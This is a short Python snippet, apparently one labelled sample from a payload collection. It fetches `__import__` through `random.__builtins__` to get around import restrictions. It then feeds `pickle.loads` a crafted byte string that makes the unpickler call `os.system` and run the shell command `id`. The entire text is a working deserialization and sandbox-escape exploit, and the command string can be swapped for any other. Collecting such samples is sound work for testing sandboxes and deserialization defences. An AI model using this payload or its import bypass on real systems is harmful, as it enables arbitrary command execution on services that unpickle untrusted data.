# family: classic (pickle finds os.system by name)   goal: id
import random
pickle = random.__builtins__["__import__"]("pickle")
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
